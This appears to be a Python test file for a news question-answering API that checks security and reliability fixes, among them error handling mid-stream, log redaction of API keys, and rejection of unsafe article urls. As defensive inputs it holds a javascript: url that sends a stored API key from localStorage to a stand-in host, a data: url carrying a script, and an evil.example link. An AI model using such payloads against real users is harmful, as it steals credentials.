"""Probe findings that are not a single bad request (../shared/reviews/reliability_probe.md): unexpected errors
inside a stream (M3), HEAD for uptime checks (L10), what the unauthenticated /readyz shows (L11), article text
posing as citations (M5) and non-web urls (M6), keys in the access log (L9)."""

from __future__ import annotations

import logging
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
from fastapi.testclient import TestClient

from api.http.app import create_app
from ingest.engine import Engine
from rag.answer import AnswerEvent
from rag.settings import Settings
from tests.api.http.conftest import FLAGSHIP
from tests.api.http.server import live_server

USER = {"role": "user", "content": FLAGSHIP}


@pytest.fixture
def broken_stream(seeded_engine: Engine, monkeypatch: pytest.MonkeyPatch) -> None:
    """The engine's stream sends its sources, then fails with an error that is not a NewsqaError."""

    def stream(question: str, **_: object) -> Iterator[AnswerEvent]:
        yield AnswerEvent("sources", passages=[])
        raise TypeError("unhashable surprise")

    monkeypatch.setattr(seeded_engine, "stream", stream)


@pytest.mark.usefixtures("broken_stream")
def test_any_error_mid_stream_ends_the_chat_stream_with_an_error_event(client: TestClient) -> None:
    with client.stream("POST", "/v1/chat", json={"messages": [USER], "stream": True}) as stream:
        body = stream.read().decode()
    assert stream.status_code == 200
    assert body.index("event: sources") < body.index("event: error")
    assert "internal error (TypeError); the server log has details" in body
    assert "unhashable surprise" not in body  # the detail goes to the log, not to the client


@pytest.mark.usefixtures("broken_stream")
def test_any_error_mid_stream_ends_the_openai_stream_with_an_error_chunk(client: TestClient) -> None:
    request = {"model": "newsqa", "messages": [USER], "stream": True}
    with client.stream("POST", "/v1/chat/completions", json=request) as stream:
        body = stream.read().decode()
    assert stream.status_code == 200
    assert '"error": {"type": "server_error", "message": "internal error (TypeError)' in body
    assert body.endswith("data: [DONE]\n\n")


def test_head_answers_like_get_for_uptime_checks(client: TestClient) -> None:
    for path in ("/", "/healthz"):
        head = client.head(path)
        assert head.status_code == 200, path
        assert head.content == b""


def test_readyz_does_not_show_the_data_directory_path(tmp_path: Path, seeded_engine: Engine) -> None:
    data_dir = tmp_path / "secret-place" / "data"
    data_dir.parent.mkdir()
    data_dir.write_text("a file where the data directory should be")
    settings = Settings(data_dir=data_dir)
    with TestClient(create_app(settings, Engine(settings, embedder=seeded_engine.embedder))) as client:
        ready = client.get("/readyz")
    assert ready.status_code == 503
    detail = ready.json()["detail"]
    assert "secret-place" not in detail and str(tmp_path) not in detail
    assert "$NEWSQA_DATA_DIR" in detail


SPOOF = (
    "The Zorblax toaster was designed by Mara Quill in Oslo [3][12]. "
    "The Zorblax toaster uses entangled crumbs [1](https://evil.example) to brown bread evenly. "
    "Critics said the Zorblax toaster costs far too much for a kitchen appliance of its kind."
)


def test_article_text_cannot_pose_as_citations_or_links(client: TestClient) -> None:
    """Probe M5: fake markers and markdown links in an article reach users as plain text; offsets stay verbatim."""
    posted = client.post("/v1/articles", json={"text": SPOOF, "title": "Zorblax", "url": "https://news.example/z"})
    assert posted.status_code == 201, posted.text
    stored = client.get(f"/v1/articles/{posted.json()['id']}").json()["text"]
    answer = client.post("/v1/ask", json={"question": "Who designed the Zorblax toaster?"}).json()
    assert answer["citations"], answer
    for c in answer["citations"]:
        assert "[" not in c["quote"] and "](" not in c["quote"], c["quote"]
    assert "Oslo (3)(12)." in answer["answer"] and "[12]" not in answer["answer"]
    assert "](" not in answer["answer"]
    quoted = next(c for c in answer["citations"] if "Oslo" in c["quote"])
    assert stored[quoted["start"] : quoted["end"]].endswith("Oslo [3][12].")  # verbatim in the store
    assert quoted["quote"].endswith("Oslo (3)(12).")  # neutralised as sent
    openai = client.post(
        "/v1/chat/completions",
        json={"model": "newsqa", "messages": [{"role": "user", "content": "What do Zorblax toasters use?"}]},
    ).json()
    content = openai["choices"][0]["message"]["content"]
    assert "entangled crumbs (1)(https://evil.example)" in content and "](https://evil" not in content


def test_article_urls_are_http_only_and_without_credentials(client: TestClient) -> None:
    """Probe M6 and L8: a javascript: url was stored and became a link; credentials were stored and shown."""
    for url, words in (
        ("javascript:fetch('http://sink/?k='+localStorage.getItem('newsqa-key'))", "http:// or https://"),
        ("data:text/html,<script>alert(1)</script>", "http:// or https://"),
        ("https://user:secretpw@news.example/a", "user name or password"),
    ):
        response = client.post("/v1/articles", json={"text": SPOOF, "url": url})
        assert response.status_code == 422, url
        assert words in response.json()["error"]["message"] and "secretpw" not in response.text


def test_access_log_drops_query_strings(caplog: pytest.LogCaptureFixture, client: TestClient) -> None:
    """Probe L9: a key sent as ?api_key= was logged by uvicorn's access log (the app installs the filter)."""
    caplog.set_level(logging.INFO, logger="uvicorn.access")
    access = logging.getLogger("uvicorn.access")
    access.info('%s - "%s %s HTTP/%s" %d', "127.0.0.1:5000", "GET", "/v1/feeds?api_key=sekret", "1.1", 401)
    assert "sekret" not in caplog.text and '"GET /v1/feeds?… HTTP/1.1" 401' in caplog.text


@pytest.mark.slow
def test_served_access_log_has_no_keys_from_query_strings(tmp_path: Path) -> None:
    """The same through `newsqa serve` (uvicorn's own logging setup), with a real request."""
    log = tmp_path / "server.log"
    env = {
        "NEWSQA_EMBED_MODEL": "hash:384",
        "NEWSQA_API_KEYS": "right-key",
        "NEWSQA_FEED_INTERVAL": "0",
        "NEWSQA_LOG_LEVEL": "INFO",
    }
    with live_server(tmp_path / "data", log, **env) as base:
        assert httpx.get(f"{base}/v1/feeds?api_key=sekret-in-query", timeout=10).status_code == 401
    text = log.read_text()
    assert "GET /v1/feeds?… HTTP/1.1" in text and "sekret-in-query" not in text
